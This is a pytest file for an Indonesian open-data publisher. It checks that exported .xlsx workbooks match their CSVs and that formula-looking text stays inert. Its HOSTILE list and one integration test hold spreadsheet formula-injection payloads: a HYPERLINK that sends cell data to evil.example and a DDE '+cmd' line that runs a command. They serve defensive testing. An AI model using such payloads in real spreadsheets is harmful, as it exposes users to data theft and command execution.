""".xlsx beside every open-data CSV: read back with openpyxl, the data dictionary first, the
same rows as the CSV (numbers as numbers), and no text ever a formula."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st
from openpyxl import load_workbook

from kinerja.publish import opendata, xlsxdata
from sitekit import commit_all, site_copy

FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r", "\n")


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _as_csv_text(value) -> str:
    """How the CSV writes a workbook value: numbers plain, formula-looking text with a ' first."""
    if value is None:
        return ""
    if isinstance(value, (int, float)):
        return str(value)
    return "'" + value if value.startswith(FORMULA_FIRST) else value


@pytest.mark.slow
def test_every_csv_has_a_workbook_with_the_dictionary_first_and_the_same_rows(demo_site):
    base = demo_site / "data-terbuka"
    csvs = sorted(base.glob("*/*.csv"))
    assert len(csvs) >= 2 * len(opendata.RESOURCES)  # two years in the demo
    for path in csvs:
        book = load_workbook(path.with_suffix(".xlsx"), read_only=False)
        assert book.sheetnames == ["Kamus data", "Data"], path
        rows = _csv_rows(path)
        header = rows[0]
        # the dictionary: one row per column, in the CSV's order, after the "Kolom" header row
        kamus = [r for r in book["Kamus data"].iter_rows(values_only=True)]
        start = next(i for i, r in enumerate(kamus) if r[0] == "Kolom")
        assert kamus[start] == ("Kolom", "Judul", "Jenis", "Isian", "Arti")
        assert [r[0] for r in kamus[start + 1:start + 1 + len(header)]] == header, path
        assert all(r[4] for r in kamus[start + 1:start + 1 + len(header)])  # every column explained
        data = [list(r) for r in book["Data"].iter_rows(values_only=True)]
        assert data[0] == header and len(data) == len(rows), path
        for csv_row, book_row in zip(rows[1:], data[1:]):
            book_row += [None] * (len(header) - len(book_row))
            assert [_as_csv_text(v) for v in book_row] == csv_row, path
    # numbers are numbers in the workbook (the reason for the download): SD Negeri 12, literasi, TW III: 97,1%
    book = load_workbook(base / "2026" / "realisasi_lengkap.xlsx")
    sheet = list(book["Data"].iter_rows(values_only=True))
    col = {name: i for i, name in enumerate(sheet[0])}
    row = next(r for r in sheet[1:] if r[col["unit"]] == "disdik-sdn-12-mb" and r[col["periode"]] == "triwulan_3"
               and r[col["iki_uraian"]] == "Persentase siswa yang mencapai kompetensi minimum literasi")
    assert row[col["capaian_persen"]] == 97.1 and row[col["tahun"]] == 2026
    page = (base / "index.html").read_text(encoding="utf-8")
    assert 'href="2026/realisasi_lengkap.xlsx"' in page and 'href="2026/realisasi_lengkap.csv"' in page
    # complaints and surveys are linked from the same page, with their dictionary
    for name in ("pengaduan", "survei"):
        assert (base / "suara" / f"{name}.csv").exists()
        for suffix in ("csv", "xlsx", "json"):
            assert f'href="suara/{name}.{suffix}"' in page, (name, suffix)
        assert f'id="kamus-{name}"' in page and f"suara/{name}.csv — " in page


@pytest.mark.slow
def test_workbooks_are_reproducible_and_carry_the_commit_date(demo_site, demo_repo):
    import datetime

    stamp = subprocess.run(["git", "log", "-1", "--format=%ct"], cwd=demo_repo, capture_output=True, text=True, check=True).stdout
    book = load_workbook(demo_site / "data-terbuka" / "2026" / "rencana.xlsx")
    assert book.properties.created == datetime.datetime.fromtimestamp(int(stamp), datetime.timezone.utc).replace(tzinfo=None)
    with zipfile.ZipFile(demo_site / "data-terbuka" / "2026" / "rencana.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {xlsxdata.ZIP_TIME}


HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "=1+1",
]


def _resource():
    return next(r for r in opendata.RESOURCES if r.name == "realisasi_lengkap")


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [c for row in book["Data"].iter_rows(min_row=2) for c in row]


def test_formula_looking_text_stays_text():
    r = _resource()
    rows = [{"tahun": 2026, "periode": "triwulan_1", "rhk_uraian": text, "iki_uraian": "biasa", "capaian_persen": 12.5} for text in HOSTILE]
    data = xlsxdata.to_xlsx(r, rows, year=2026, regency="Kabupaten X", fiktif=False, commit="abc", epoch=1_700_000_000)
    cells = _cells(data)
    assert all(c.data_type != "f" for c in cells)
    col = [f.name for f in r.fields].index("rhk_uraian")
    width = len(r.fields)
    texts = [cells[i * width + col] for i in range(len(HOSTILE))]
    assert [c.value for c in texts] == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)
    plain = cells[[f.name for f in r.fields].index("iki_uraian")]
    assert plain.value == "biasa" and not plain.quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read(xlsxdata.DATA_PART).decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere


@settings(deadline=None, max_examples=60)
@given(st.lists(st.one_of(st.none(), st.text(max_size=40), st.integers(-10**6, 10**6), st.booleans(),
                          st.floats(allow_nan=False, allow_infinity=False, width=32)), min_size=1, max_size=13))
def test_any_row_reads_back_as_written(values):
    """Any text (control characters, XML specials, spaces at the ends), numbers and booleans."""
    r = _resource()
    names = [f.name for f in r.fields]
    row = dict(zip(names, values))
    data = xlsxdata.to_xlsx(r, [row], year=2026, regency="<&>", fiktif=True, commit=None, epoch=None)
    book = load_workbook(io.BytesIO(data))
    got = [c for c in next(book["Data"].iter_rows(min_row=2, max_row=2))]
    got += [None] * (len(names) - len(got))
    for name, cell in zip(names, got):
        value = getattr(cell, "value", None)
        want = row.get(name)
        if isinstance(want, bool):
            want = "ya" if want else "tidak"
        elif isinstance(want, str):
            want = xlsxdata._NOT_IN_XML.sub("\ufffd", want)
            if want == "":
                want = value  # an empty string may read back as None or ""
        if isinstance(want, float):
            assert value == pytest.approx(want, rel=1e-6), name
        else:
            assert value == want, (name, row.get(name))
        if cell is not None and getattr(cell, "data_type", None) == "s" and isinstance(value, str):
            assert bool(cell.quotePrefix) == value.startswith(FORMULA_FIRST), value


@pytest.mark.slow
def test_a_formula_in_an_rhk_reaches_the_workbook_as_text(tmp_path):
    repo = site_copy(tmp_path / "repo")
    plan = repo / "plans" / "2026" / "disdik-0040.yml"
    text = plan.read_text(encoding="utf-8")
    original = '"Meningkatnya capaian literasi siswa SD Negeri 12 Muara Bulian"'
    assert original in text
    plan.write_text(text.replace(original, '"=HYPERLINK(\\"https://evil.example/\\",\\"klik\\")"', 1), encoding="utf-8")
    commit_all(repo, "rumus")
    out = tmp_path / "tree"
    proc = subprocess.run([sys.executable, "-m", "kinerja", "site", "--akar", str(repo), "--keluaran", str(out)],
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr
    hits = [c for c in _cells((out / "data-terbuka" / "2026" / "rencana.xlsx").read_bytes()) if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hits and all(c.data_type == "s" and c.quotePrefix and c.value.startswith("=HYPERLINK") for c in hits)
    assert "'=HYPERLINK" in (out / "data-terbuka" / "2026" / "rencana.csv").read_text(encoding="utf-8-sig")
